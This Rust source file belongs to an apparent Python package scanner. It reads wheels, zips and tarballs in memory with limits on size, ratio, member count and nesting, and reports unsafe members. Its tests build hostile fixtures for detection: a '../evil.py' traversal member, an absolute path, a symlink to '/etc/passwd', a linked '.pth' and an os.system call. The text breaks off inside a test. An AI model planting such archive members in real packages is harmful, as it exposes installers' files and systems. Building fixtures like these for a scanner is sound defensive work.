//! Reading Python sources out of archives — wheels, eggs, zips and sdist tarballs — in memory,
//! never extracting anything to disk.
//!
//! Archives come from strangers, so every read is bounded: total uncompressed bytes, bytes per
//! member, number of members, and the compression ratio (a zip bomb declares or inflates to far
//! more than its size). Member names with `..`, absolute paths, and links are reported, never
//! followed.

use std::collections::BTreeSet;
use std::io::{BufRead, Read};
use std::path::Path;

/// Limits applied while reading one archive.
#[derive(Debug, Clone, Copy)]
pub struct ArchiveLimits {
    /// Total uncompressed bytes read from the archive.
    pub max_total_bytes: u64,
    /// Uncompressed bytes of one member.
    pub max_member_bytes: u64,
    /// Number of members looked at.
    pub max_members: usize,
    /// Uncompressed size / compressed size above which the archive is a bomb.
    pub max_ratio: u64,
}

impl Default for ArchiveLimits {
    fn default() -> Self {
        Self {
            max_total_bytes: 1 << 30,
            max_member_bytes: 32 << 20,
            max_members: 100_000,
            max_ratio: 200,
        }
    }
}

/// The kind of archive, by file name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ArchiveKind {
    /// `.whl`, `.zip`, `.egg`, and zip applications (`.pyz`, `.pyzw`, or a python shebang
    /// followed by a zip: Python runs the `__main__.py` inside).
    Zip,
    /// A tarball: `.tar`, and the compressed sdist forms `.tar.gz`/`.tgz`, `.tar.bz2`/`.tbz`,
    /// `.tar.xz`/`.txz` and `.tar.lzma`/`.tlz`. The compression is read from the file's first
    /// bytes, not from its name, as Python's `tarfile` does for a plain `.tar`.
    Tar,
}

/// Tarball suffixes, the ones pip unpacks as sdists.
const TAR_SUFFIXES: &[&str] = &[
    ".tar",
    ".tar.gz",
    ".tgz",
    ".tar.bz2",
    ".tbz",
    ".tbz2",
    ".tar.xz",
    ".txz",
    ".tar.lzma",
    ".tlz",
];

/// The archive kind of a path, if it is one pysbx reads.
#[must_use]
pub fn archive_kind(path: &Path) -> Option<ArchiveKind> {
    let name = path.file_name()?.to_string_lossy().to_ascii_lowercase();
    if [".whl", ".zip", ".egg", ".pyz", ".pyzw"].iter().any(|suffix| name.ends_with(suffix)) {
        Some(ArchiveKind::Zip)
    } else if TAR_SUFFIXES.iter().any(|suffix| name.ends_with(suffix)) {
        Some(ArchiveKind::Tar)
    } else {
        None
    }
}

/// Whether the file at `path` ends like a zip (an end-of-central-directory record in its last
/// 64 KiB): a script that starts with a python shebang and ends so is a zip application, which
/// Python runs from the zip (`python tool` reads the archive's `__main__.py`), not as text.
#[must_use]
pub fn is_zip_application(path: &Path) -> bool {
    use std::io::{Seek, SeekFrom};
    const EOCD: &[u8] = b"PK\x05\x06";
    // The record is 22 bytes, followed by a comment of at most 65,535.
    const TAIL: u64 = 22 + 65_535;
    let Ok((mut file, meta)) = pysbx_files::open_regular(path) else { return false };
    let start = meta.len().saturating_sub(TAIL);
    if file.seek(SeekFrom::Start(start)).is_err() {
        return false;
    }
    let mut tail = Vec::new();
    if file.take(TAIL).read_to_end(&mut tail).is_err() {
        return false;
    }
    memchr::memmem::rfind(&tail, EOCD).is_some()
}

/// How a tarball's bytes are compressed, read from its first bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Compression {
    None,
    Gzip,
    Bzip2,
    Xz,
    /// The legacy `.lzma` format, which has no magic number: taken by name only.
    LzmaAlone,
}

fn sniff_compression(head: &[u8], name: &str) -> Compression {
    if head.starts_with(&[0x1f, 0x8b]) {
        Compression::Gzip
    } else if head.starts_with(b"BZh") {
        Compression::Bzip2
    } else if head.starts_with(&[0xfd, b'7', b'z', b'X', b'Z', 0x00]) {
        Compression::Xz
    } else if name.ends_with(".tar.lzma") || name.ends_with(".tlz") {
        Compression::LzmaAlone
    } else {
        Compression::None
    }
}

/// The container its first bytes show, when they show one: a zip's local header (or the
/// end record of an empty zip), or a compressed stream or `ustar` header, which only tarballs
/// among the archives pysbx reads start with. A zip application's shebang, or an lzma-alone
/// stream (no magic), tells nothing: the name decides then.
fn sniff_container(head: &[u8]) -> Option<ArchiveKind> {
    const USTAR_AT: usize = 257;
    if head.starts_with(b"PK\x03\x04") || head.starts_with(b"PK\x05\x06") {
        Some(ArchiveKind::Zip)
    } else if sniff_compression(head, "") != Compression::None
        || head.get(USTAR_AT..USTAR_AT + 5) == Some(b"ustar")
    {
        Some(ArchiveKind::Tar)
    } else {
        None
    }
}

/// The most memory an xz or lzma stream may ask for its dictionary: `xz -9` needs 64 MiB, and
/// a header that asks for gigabytes is a memory bomb, refused before anything is allocated.
const LZMA_MEMORY_LIMIT_KIB: u32 = 96 << 10;

/// What reading an archive produced, member by member.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ArchiveEntry {
    /// A member to scan: a Python source or an install-time file such as a `.pth`.
    Source {
        /// The member's name inside the archive.
        name: String,
        /// Its bytes.
        bytes: Vec<u8>,
    },
    /// A `pyproject.toml`, whose `[build-system]` may name an in-tree build backend.
    Project {
        /// The member's name inside the archive.
        name: String,
        /// Its bytes.
        bytes: Vec<u8>,
    },
    /// A `setup.cfg`, or the `entry_points.txt` of a `*.dist-info` or `*.egg-info` directory:
    /// metadata that may declare the commands the package installs; or a CMake build script,
    /// whose commands run when the package is built.
    Metadata {
        /// The member's name inside the archive.
        name: String,
        /// Its bytes.
        bytes: Vec<u8>,
    },
    /// A wheel's `*.dist-info/RECORD` (at the top of a zip): the files the wheel ships, each
    /// with a hash of its bytes. A zip hands its RECORDs on before any other member.
    Record {
        /// The member's name inside the archive.
        name: String,
        /// Its bytes.
        bytes: Vec<u8>,
    },
    /// A member that was not read, and why (unsafe name, link, over a limit).
    Problem {
        /// The member's name inside the archive.
        name: String,
        /// What is wrong with it.
        message: String,
    },
}

impl ArchiveEntry {
    /// The member's name inside the archive.
    #[must_use]
    pub fn name(&self) -> &str {
        match self {
            Self::Source { name, .. }
            | Self::Project { name, .. }
            | Self::Metadata { name, .. }
            | Self::Record { name, .. }
            | Self::Problem { name, .. } => name,
        }
    }

    /// The entry, named inside an enclosing archive (`prefix` is `outer.zip!/`).
    fn under(self, prefix: &str) -> Self {
        match self {
            Self::Source { name, bytes } => Self::Source { name: format!("{prefix}{name}"), bytes },
            Self::Project { name, bytes } => {
                Self::Project { name: format!("{prefix}{name}"), bytes }
            }
            Self::Metadata { name, bytes } => {
                Self::Metadata { name: format!("{prefix}{name}"), bytes }
            }
            Self::Record { name, bytes } => Self::Record { name: format!("{prefix}{name}"), bytes },
            Self::Problem { name, message } => {
                Self::Problem { name: format!("{prefix}{name}"), message }
            }
        }
    }
}

/// An archive that could not be read at all, or stopped being readable part way.
#[derive(Debug, thiserror::Error)]
pub enum ArchiveError {
    /// The container itself is unreadable or corrupt.
    #[error("cannot read archive: {0}")]
    Corrupt(String),
    /// A limit was exceeded; the archive was abandoned.
    #[error("{0}")]
    Limit(String),
}

/// What a member is, by its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum MemberKind {
    /// A Python source by suffix, or a `.pth` file, which runs code at interpreter start-up.
    Source,
    /// A file name without a suffix: a script (a wheel's `*.data/scripts/`) when it starts with
    /// a python shebang, as in a walked directory.
    MaybeScript,
    /// Compiled Python (`.pyc`, `.pyo`) outside `__pycache__`: Python imports it when no source
    /// of the same name is beside it, and bytecode is not scanned.
    Bytecode,
    /// An archive inside the archive (a zip a `.pth` line puts on `sys.path`, a vendored
    /// wheel): read in memory in turn, up to [`MAX_NESTING`] levels deep.
    Archive(ArchiveKind),
    /// A native extension module or library (`.so`, `.pyd`, `.dylib`): expected in a platform
    /// wheel, not in one tagged pure Python (`-none-any`), where it is reported.
    Native,
    /// A `pyproject.toml`: handed on, for the build backend it may name.
    Project,
    /// A `setup.cfg` or a distribution's `entry_points.txt`: handed on, for the commands it
    /// declares; a CMake build script, for those it runs.
    Metadata,
    /// A `*.dist-info/RECORD` at the top of a zip: handed on, to check the members against.
    Record,
    /// Anything else: not read.
    Other,
}

fn member_kind(name: &str) -> MemberKind {
    let mut parts = name.rsplit(['/', '\\']);
    let file = parts.next().unwrap_or_default().to_ascii_lowercase();
    let parent = parts.next();
    let in_pycache = parent == Some("__pycache__");
    let path = Path::new(&file);
    let in_metadata = || parent.is_some_and(crate::is_metadata_dir);
    // The same tests by name as a directory walk's (`crate::file_kind`).
    if file == "pyproject.toml" {
        MemberKind::Project
    } else if file == "setup.cfg"
        || (file == "entry_points.txt" && in_metadata())
        || crate::is_cmake_script(&file)
    {
        MemberKind::Metadata
    } else if crate::is_source_name(path) {
        MemberKind::Source
    } else if let Some(kind) = archive_kind(path) {
        MemberKind::Archive(kind)
    } else if [".so", ".pyd", ".dylib"].iter().any(|suffix| file.ends_with(suffix)) {
        MemberKind::Native
    } else if crate::is_compiled_name(path) && !in_pycache {
        MemberKind::Bytecode
    } else if !file.is_empty() && !file.contains('.') {
        MemberKind::MaybeScript
    } else {
        MemberKind::Other
    }
}

/// Whether a zip member is a wheel's `RECORD`: `name.dist-info/RECORD` at the top.
fn is_record_name(name: &str) -> bool {
    name.strip_suffix("/RECORD")
        .is_some_and(|dir| dir.ends_with(".dist-info") && !dir.contains(['/', '\\']))
}

/// Why a path written inside an archive or a project (a member name, a `backend-path`) would
/// leave it, if it would: absolute (`/x`, `\x`, `C:/x`) or climbing out with `..`.
#[must_use]
pub fn unsafe_name(name: &str) -> Option<&'static str> {
    let bytes = name.as_bytes();
    let drive = bytes.len() >= 3
        && bytes[0].is_ascii_alphabetic()
        && bytes[1] == b':'
        && matches!(bytes[2], b'/' | b'\\');
    if name.starts_with('/') || name.starts_with('\\') || drive {
        return Some("absolute member path");
    }
    if name.split(['/', '\\']).any(|part| part == "..") {
        return Some("member path escapes the archive with `..`");
    }
    None
}

/// Reads every scannable member of the archive at `path`, calling `visit` for each source and
/// each problem, in archive order.
///
/// # Errors
/// A corrupt container, or a limit exceeded (the members visited so far stay visited).
pub fn read_archive(
    path: &Path,
    kind: ArchiveKind,
    limits: ArchiveLimits,
    visit: &mut dyn FnMut(ArchiveEntry),
) -> Result<(), ArchiveError> {
    let (file, meta) =
        pysbx_files::open_regular(path).map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
    let name = path.file_name().map(|n| n.to_string_lossy().to_ascii_lowercase());
    let reading = Reading {
        limits,
        compressed: meta.len().max(1),
        depth: 0,
        pure_wheel: name.as_deref().is_some_and(is_pure_wheel),
    };
    read_from(
        std::io::BufReader::new(file),
        kind,
        name.as_deref().unwrap_or_default(),
        reading,
        visit,
    )
    .map(|_| ())
}

/// How many archives deep a read goes: an archive, one inside it, and one inside that.
const MAX_NESTING: u8 = 2;

/// Where an archive is read: its limits, its size as stored, and how deep inside other
/// archives it sits.
#[derive(Debug, Clone, Copy)]
struct Reading {
    limits: ArchiveLimits,
    compressed: u64,
    depth: u8,
    /// A wheel tagged pure Python (`-none-any.whl`): native code in it is reported.
    pure_wheel: bool,
}

/// Whether an archive's (lowercase) name is a wheel tagged pure Python: no ABI, any platform.
fn is_pure_wheel(name: &str) -> bool {
    name.ends_with("-none-any.whl")
}

/// What reading an archive used of its limits.
#[derive(Debug, Clone, Copy)]
struct Spent {
    bytes: u64,
    members: usize,
}

/// Reads an archive of `kind` named `name` (lowercase) from `input`, returning what it spent.
fn read_from(
    mut input: impl BufRead + std::io::Seek,
    kind: ArchiveKind,
    name: &str,
    reading: Reading,
    visit: &mut dyn FnMut(ArchiveEntry),
) -> Result<Spent, ArchiveError> {
    let head = input.fill_buf().map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
    // The container is read from the first bytes when they tell it, the name only otherwise: a
    // wheel renamed `.tar.gz` (as package mirrors and malware datasets store them) is still a
    // zip, and a scanner that believed the name would read nothing of it.
    let kind = sniff_container(head).unwrap_or(kind);
    match kind {
        ArchiveKind::Zip => read_zip(input, reading, visit),
        ArchiveKind::Tar => {
            let head = input.fill_buf().map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
            // Every stream of a multi-stream file is read, as Python's gzip, bz2 and lzma
            // modules do: a scanner that stops after the first would miss members that pip
            // unpacks.
            match sniff_compression(head, name) {
                Compression::None => read_tar(input, reading, visit),
                Compression::Gzip => {
                    read_tar(flate2::bufread::MultiGzDecoder::new(input), reading, visit)
                }
                Compression::Bzip2 => {
                    read_tar(bzip2::bufread::MultiBzDecoder::new(input), reading, visit)
                }
                Compression::Xz => read_tar(
                    lzma_rust2::XzReader::new_mem_limit(input, true, LZMA_MEMORY_LIMIT_KIB),
                    reading,
                    visit,
                ),
                Compression::LzmaAlone => {
                    let reader =
                        lzma_rust2::LzmaReader::new_mem_limit(input, LZMA_MEMORY_LIMIT_KIB, None)
                            .map_err(|e| ArchiveError::Corrupt(format!("lzma stream: {e}")))?;
                    read_tar(reader, reading, visit)
                }
            }
        }
    }
}

/// Reads at most `limit + 1` bytes, so callers can tell "exactly at the limit" from "over".
fn read_bounded(reader: &mut dyn Read, limit: u64) -> std::io::Result<Vec<u8>> {
    let mut bytes = Vec::new();
    reader.take(limit.saturating_add(1)).read_to_end(&mut bytes)?;
    Ok(bytes)
}

/// The bytes of a member that may be a script: its first line first, the rest only when that
/// line is a python shebang (a `LICENSE` is not inflated to be thrown away).
fn read_script(reader: &mut dyn Read, limit: u64) -> std::io::Result<Option<Vec<u8>>> {
    let mut head = Vec::new();
    reader.take(SHEBANG_BYTES).read_to_end(&mut head)?;
    if !crate::is_python_shebang(&head) {
        return Ok(None);
    }
    reader
        .take(limit.saturating_add(1).saturating_sub(head.len() as u64))
        .read_to_end(&mut head)?;
    Ok(Some(head))
}

/// How much of a file is read to look for a shebang.
const SHEBANG_BYTES: u64 = 128;

/// The bookkeeping of one archive's read: the limits spent so far, and the compiled members
/// whose source may be elsewhere in the archive.
struct Members<'v> {
    limits: ArchiveLimits,
    compressed: u64,
    depth: u8,
    pure_wheel: bool,
    total: u64,
    count: usize,
    visit: &'v mut dyn FnMut(ArchiveEntry),
    sources: BTreeSet<String>,
    bytecode: Vec<String>,
}

impl<'v> Members<'v> {
    fn new(reading: Reading, visit: &'v mut dyn FnMut(ArchiveEntry)) -> Self {
        Self {
            limits: reading.limits,
            compressed: reading.compressed,
            depth: reading.depth,
            pure_wheel: reading.pure_wheel,
            total: 0,
            count: 0,
            visit,
            sources: BTreeSet::new(),
            bytecode: Vec::new(),
        }
    }

    fn member(&mut self) -> Result<(), ArchiveError> {
        self.count += 1;
        if self.count > self.limits.max_members {
            return Err(ArchiveError::Limit(format!(
                "more than {} members: archive abandoned",
                self.limits.max_members
            )));
        }
        Ok(())
    }

    fn spend(&mut self, bytes: u64) -> Result<(), ArchiveError> {
        self.total += bytes;
        if self.total > self.limits.max_total_bytes {
            return Err(ArchiveError::Limit(format!(
                "more than {} MiB uncompressed: archive abandoned (compression bomb?)",
                self.limits.max_total_bytes >> 20
            )));
        }
        if self.total > self.compressed.saturating_mul(self.limits.max_ratio)
            && self.total > (1 << 20)
        {
            return Err(ArchiveError::Limit(format!(
                "compression ratio above {}:1: archive abandoned (compression bomb?)",
                self.limits.max_ratio
            )));
        }
        Ok(())
    }

    fn problem(&mut self, name: String, message: impl Into<String>) {
        (self.visit)(ArchiveEntry::Problem { name, message: message.into() });
    }

    /// A link member, never followed: reported when its name is one the scan would read or
    /// report (a source, a `.pth`, an archive, compiled Python, native code in a pure wheel).
    /// A link among data files (the zone links of a bundled time-zone tarball) is, like the
    /// data files themselves, not read and not reported.
    fn link(&mut self, name: String, kind: MemberKind, message: &str) {
        let reported = match kind {
            MemberKind::Other | MemberKind::MaybeScript => false,
            MemberKind::Native => self.pure_wheel,
            MemberKind::Source
            | MemberKind::Bytecode
            | MemberKind::Archive(_)
            | MemberKind::Project
            | MemberKind::Metadata
            | MemberKind::Record => true,
        };
        if reported {
            self.problem(name, message);
        }
    }

    fn too_large(&mut self, name: String) {
        let message =
            format!("member larger than {} MiB: not scanned", self.limits.max_member_bytes >> 20);
        self.problem(name, message);
    }

    /// Takes a member whose name has been checked: sources and scripts are read (through
    /// `read`, which gets the member's limit) and visited; compiled members are remembered.
    /// `declared` is the size the archive declares. With `inflated_anyway` (a tarball, whose
    /// stream runs through every member's data to reach the next) it is what the member costs,
    /// read or not: a bomb can hide in members nobody reads. Otherwise (a zip, whose members
    /// are inflated only when read) the member costs what is read of it.
    fn take(
        &mut self,
        name: String,
        kind: MemberKind,
        declared: u64,
        inflated_anyway: bool,
        read: &mut dyn FnMut(MemberKind, u64) -> std::io::Result<Option<Vec<u8>>>,
    ) -> Result<(), ArchiveError> {
        if inflated_anyway {
            self.spend(declared)?;
        }
        match kind {
            MemberKind::Bytecode => {
                self.bytecode.push(name);
                return Ok(());
            }
            MemberKind::Other => return Ok(()),
            MemberKind::Native => {
                if self.pure_wheel {
                    self.problem(
                        name,
                        "native code in a wheel tagged pure Python (`none-any`): not scanned",
                    );
                }
                return Ok(());
            }
            MemberKind::Source => {
                self.sources.insert(name.to_ascii_lowercase());
            }
            MemberKind::MaybeScript
            | MemberKind::Archive(_)
            | MemberKind::Project
            | MemberKind::Metadata
            | MemberKind::Record => {}
        }
        if matches!(kind, MemberKind::Archive(_)) && self.depth >= MAX_NESTING {
            let message = format!("archive nested more than {MAX_NESTING} deep: not read");
            self.problem(name, message);
            return Ok(());
        }
        if declared > self.limits.max_member_bytes {
            self.too_large(name);
            return Ok(());
        }
        let bytes = read(kind, self.limits.max_member_bytes)
            .map_err(|e| ArchiveError::Corrupt(format!("{name}: {e}")))?;
        let Some(bytes) = bytes else { return Ok(()) };
        if !inflated_anyway {
            self.spend(bytes.len() as u64)?;
        }
        if bytes.len() as u64 > self.limits.max_member_bytes {
            let message = format!(
                "member inflates past {} MiB: not scanned",
                self.limits.max_member_bytes >> 20
            );
            self.problem(name, message);
            return Ok(());
        }
        if let MemberKind::Archive(inner) = kind {
            return self.nested(name, inner, bytes);
        }
        if kind == MemberKind::Project {
            (self.visit)(ArchiveEntry::Project { name, bytes });
            return Ok(());
        }
        if kind == MemberKind::Record {
            (self.visit)(ArchiveEntry::Record { name, bytes });
            return Ok(());
        }
        if kind == MemberKind::Metadata {
            (self.visit)(ArchiveEntry::Metadata { name, bytes });
            return Ok(());
        }
        (self.visit)(ArchiveEntry::Source { name, bytes });
        Ok(())
    }

    /// Reads an archive found inside this one, its members named `name!/member`, within what
    /// is left of this archive's budget. One that cannot be read is a problem of its own; one
    /// over a limit abandons the whole archive, as a bomb should.
    fn nested(
        &mut self,
        name: String,
        kind: ArchiveKind,
        bytes: Vec<u8>,
    ) -> Result<(), ArchiveError> {
        // The inner archive draws on what is left of this one's bytes and members, so that
        // archives of archives cannot multiply the limits.
        let reading = Reading {
            limits: ArchiveLimits {
                max_total_bytes: self.limits.max_total_bytes.saturating_sub(self.total),
                max_members: self.limits.max_members.saturating_sub(self.count),
                ..self.limits
            },
            compressed: (bytes.len() as u64).max(1),
            depth: self.depth + 1,
            pure_wheel: is_pure_wheel(&name.to_ascii_lowercase()),
        };
        let prefix = format!("{name}!/");
        let visit = &mut *self.visit;
        let mut prefixed = |entry: ArchiveEntry| visit(entry.under(&prefix));
        let lower = name.to_ascii_lowercase();
        let result = read_from(std::io::Cursor::new(bytes), kind, &lower, reading, &mut prefixed);
        match result {
            Ok(spent) => {
                self.count += spent.members;
                self.spend(spent.bytes)
            }
            Err(ArchiveError::Limit(why)) => Err(ArchiveError::Limit(format!("{name}: {why}"))),
            Err(ArchiveError::Corrupt(why)) => {
                self.problem(name, format!("cannot read archive: {why}"));
                Ok(())
            }
        }
    }

    /// Reports the compiled members that no source of the same name stands beside (Python
    /// imports those, and their code was not scanned), and returns the bytes spent.
    fn finish(mut self) -> Spent {
        for name in std::mem::take(&mut self.bytecode) {
            // Sources are kept lowercase: a suffix in capitals is still a source's.
            let stem = name[..name.len() - 4].to_ascii_lowercase();
            let has_source = [".py", ".pyw"]
                .iter()
                .any(|suffix| self.sources.contains(&(stem.clone() + suffix)));
            if !has_source {
                self.problem(name, crate::SOURCELESS_BYTECODE);
            }
        }
        Spent { bytes: self.total, members: self.count }
    }
}

/// Reads one member for [`Members::take`].
fn read_member(
    reader: &mut dyn Read,
    kind: MemberKind,
    limit: u64,
) -> std::io::Result<Option<Vec<u8>>> {
    if kind == MemberKind::MaybeScript {
        read_script(reader, limit)
    } else {
        read_bounded(reader, limit).map(Some)
    }
}

fn read_zip(
    input: impl Read + std::io::Seek,
    reading: Reading,
    visit: &mut dyn FnMut(ArchiveEntry),
) -> Result<Spent, ArchiveError> {
    let mut zip = zip::ZipArchive::new(input).map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
    let mut members = Members::new(reading, visit);
    // The central directory's names, as Python's zipfile reads them.
    // Each member's name and kind, decided once. A wheel's RECORD comes first, so that each
    // member can be checked against it as it is read.
    let mut order: Vec<(usize, String, MemberKind)> = (0..zip.len())
        .map(|index| {
            let name = zip
                .name_for_index(index)
                .and_then(Result::ok)
                .map_or_else(|| format!("<undecodable name of member {index}>"), |n| n.to_string());
            let kind = if is_record_name(&name) { MemberKind::Record } else { member_kind(&name) };
            (index, name, kind)
        })
        .collect();
    order.sort_by_key(|(_, _, kind)| *kind != MemberKind::Record);
    let result = (|| {
        for (index, name, kind) in order {
            members.member()?;
            // The members whose code would be scanned: one that cannot be inflated is named.
            let wanted = matches!(
                kind,
                MemberKind::Source | MemberKind::MaybeScript | MemberKind::Archive(_)
            );
            let mut member = match zip.by_index(index) {
                Ok(member) => member,
                Err(zip::result::ZipError::UnsupportedArchive(why)) => {
                    // A member the reader refuses (encrypted, for one): named, and the rest of
                    // the archive still read.
                    if !matches!(kind, MemberKind::Other | MemberKind::Native) {
                        members.problem(name, format!("{why}: not scanned"));
                    }
                    continue;
                }
                Err(e) => return Err(ArchiveError::Corrupt(e.to_string())),
            };
            if member.is_dir() {
                continue;
            }
            if member.is_symlink() {
                members.link(name, kind, "symbolic link member: not followed");
                continue;
            }
            if let Some(why) = unsafe_name(&name) {
                members.problem(name, format!("{why}: not read"));
                continue;
            }
            let method = member.compression();
            let readable = matches!(
                method,
                zip::CompressionMethod::Stored
                    | zip::CompressionMethod::Deflated
                    | zip::CompressionMethod::Bzip2
                    | zip::CompressionMethod::Lzma
            );
            if !readable && wanted {
                // A compression pysbx cannot inflate (nor can Python's zipfile, for most): the
                // member is named, and the rest of the archive still read.
                members.problem(
                    name,
                    format!("compression method {method} not supported: not scanned"),
                );
                continue;
            }
            let declared = member.size();
            // A zip member nobody reads is never inflated, so its declared size costs nothing.
            members.take(name, kind, declared, false, &mut |kind, limit| {
                read_member(&mut member, kind, limit)
            })?;
        }
        Ok(())
    })();
    let spent = members.finish();
    result.map(|()| spent)
}

fn read_tar(
    reader: impl Read,
    reading: Reading,
    visit: &mut dyn FnMut(ArchiveEntry),
) -> Result<Spent, ArchiveError> {
    let mut counted = Counted { inner: reader, read: 0 };
    let mut archive = tar::Archive::new(&mut counted);
    let mut members = Members::new(reading, visit);
    let result = (|| {
        let entries = archive.entries().map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
        for entry in entries {
            members.member()?;
            let mut entry = entry.map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
            let name = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
            let kind = entry.header().entry_type();
            if kind.is_dir() {
                continue;
            }
            if kind.is_symlink() || kind.is_hard_link() {
                // The entry's (empty) data is skipped by the iterator.
                let member = member_kind(&name);
                members.link(name, member, "link member: not followed");
                continue;
            }
            if let Some(why) = unsafe_name(&name) {
                members.problem(name, format!("{why}: not read"));
                continue;
            }
            let size = entry.header().size().unwrap_or(0);
            if kind.is_character_special() || kind.is_block_special() || kind.is_fifo() {
                // Nothing to read, and nothing an installer makes: named where the member's
                // name is one the scan reads (`pkg/__init__.py` as a FIFO), as a link is.
                members.spend(size)?;
                let member = member_kind(&name);
                members.link(name, member, "device or FIFO member: not read");
                continue;
            }
            if !kind.is_file() {
                // Skipped data is still inflated to reach the next member, so it counts.
                members.spend(size)?;
                continue;
            }
            let member = member_kind(&name);
            members.take(name, member, size, true, &mut |kind, limit| {
                read_member(&mut entry, kind, limit)
            })?;
        }
        Ok(())
    })();
    // Python's `tarfile` (and so pip) refuses a tarball with no data at all; so does the scan,
    // rather than calling it clean.
    let result = result.and_then(|()| {
        if counted.read == 0 {
            Err(ArchiveError::Corrupt("empty file".to_string()))
        } else {
            Ok(())
        }
    });
    let spent = members.finish();
    result.map(|()| spent)
}

/// A reader that counts what it gave.
struct Counted<R> {
    inner: R,
    read: u64,
}

impl<R: Read> Read for Counted<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.read += n as u64;
        Ok(n)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn zip_with(entries: &[(&str, &[u8])], dir: &Path) -> std::path::PathBuf {
        let path = dir.join("pkg-1.0-py3-none-any.whl");
        let file = std::fs::File::create(&path).unwrap();
        let mut zip = zip::ZipWriter::new(file);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, bytes) in entries {
            zip.start_file(*name, opts).unwrap();
            zip.write_all(bytes).unwrap();
        }
        zip.finish().unwrap();
        path
    }

    fn collect(
        path: &Path,
        limits: ArchiveLimits,
    ) -> (Vec<ArchiveEntry>, Result<(), ArchiveError>) {
        let mut seen = Vec::new();
        let kind = archive_kind(path).unwrap();
        let result = read_archive(path, kind, limits, &mut |e| seen.push(e));
        (seen, result)
    }

    #[test]
    fn reads_python_members_of_a_wheel() {
        let dir = tempfile::tempdir().unwrap();
        let path = zip_with(
            &[
                ("pkg/__init__.py", b"import os\n"),
                ("pkg/data.txt", b"x"),
                ("pkg.pth", b"import pkg\n"),
            ],
            dir.path(),
        );
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        let names: Vec<_> = seen.iter().map(ArchiveEntry::name).collect();
        assert_eq!(names, ["pkg/__init__.py", "pkg.pth"]);
    }

    #[test]
    fn a_wheels_record_is_handed_on_before_its_members() {
        let dir = tempfile::tempdir().unwrap();
        let path = zip_with(
            &[
                ("pkg/__init__.py", b"import os\n"),
                ("pkg/sub.dist-info/RECORD", b"not the wheel's\n"),
                ("pkg-1.0.dist-info/RECORD", b"pkg/__init__.py,,\n"),
            ],
            dir.path(),
        );
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        // Only a `*.dist-info` at the top is the wheel's metadata; it comes first whatever its
        // place in the zip.
        assert!(
            matches!(&seen[0], ArchiveEntry::Record { name, bytes }
                if name == "pkg-1.0.dist-info/RECORD" && bytes == b"pkg/__init__.py,,\n"),
            "{seen:?}"
        );
        let names: Vec<_> = seen.iter().map(ArchiveEntry::name).collect();
        assert_eq!(names, ["pkg-1.0.dist-info/RECORD", "pkg/__init__.py"]);
    }

    #[test]
    fn dotdot_and_absolute_members_are_reported_not_read() {
        let dir = tempfile::tempdir().unwrap();
        let path = zip_with(&[("../evil.py", b"x=1\n"), ("/abs.py", b"x=1\n")], dir.path());
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        assert!(
            matches!(&seen[0], ArchiveEntry::Problem { message, .. } if message.contains(".."))
        );
        assert!(
            matches!(&seen[1], ArchiveEntry::Problem { message, .. } if message.contains("absolute"))
        );
    }

    #[test]
    fn compression_bomb_is_abandoned() {
        let dir = tempfile::tempdir().unwrap();
        let zeros = vec![b' '; 40 << 20];
        let path = zip_with(&[("a.py", &zeros), ("b.py", &zeros), ("c.py", &zeros)], dir.path());
        let limits = ArchiveLimits { max_member_bytes: 64 << 20, ..ArchiveLimits::default() };
        let (_, result) = collect(&path, limits);
        let err = result.unwrap_err();
        assert!(err.to_string().contains("compression"), "{err}");
    }

    #[test]
    fn an_empty_tarball_is_an_error_and_one_without_members_is_not() {
        let dir = tempfile::tempdir().unwrap();
        let empty = dir.path().join("e-1.0.tar");
        std::fs::write(&empty, b"").unwrap();
        let empty_gz = dir.path().join("e-1.0.tar.gz");
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&empty_gz).unwrap(),
            flate2::Compression::default(),
        );
        gz.finish().unwrap();
        for path in [&empty, &empty_gz] {
            let (_, result) = collect(path, ArchiveLimits::default());
            assert!(
                matches!(&result, Err(ArchiveError::Corrupt(m)) if m == "empty file"),
                "{path:?}: {result:?}"
            );
        }
        // The end-of-archive blocks alone: a valid tarball with nothing in it.
        let blank = dir.path().join("b-1.0.tar");
        tar::Builder::new(std::fs::File::create(&blank).unwrap()).finish().unwrap();
        let (entries, result) = collect(&blank, ArchiveLimits::default());
        assert!(result.is_ok() && entries.is_empty(), "{result:?}");
    }

    #[test]
    fn tar_gz_symlink_member_is_reported() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("pkg-1.0.tar.gz");
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&path).unwrap(),
            flate2::Compression::default(),
        );
        let mut builder = tar::Builder::new(gz);
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_size(0);
        builder.append_link(&mut header, "pkg-1.0/link.py", "/etc/passwd").unwrap();
        // Links among data files (a bundled time-zone database) are data, not reported; a
        // hard link named as a `.pth` is.
        for (name, kind) in [
            ("pkg-1.0/zoneinfo/Africa/Abidjan", tar::EntryType::Symlink),
            ("pkg-1.0/zoneinfo/UTC.dat", tar::EntryType::Link),
            ("pkg-1.0/hook.pth", tar::EntryType::Link),
        ] {
            let mut header = tar::Header::new_gnu();
            header.set_entry_type(kind);
            header.set_size(0);
            builder.append_link(&mut header, name, "pkg-1.0/zoneinfo/GMT").unwrap();
        }
        let data = b"import os\nos.system('x')\n";
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
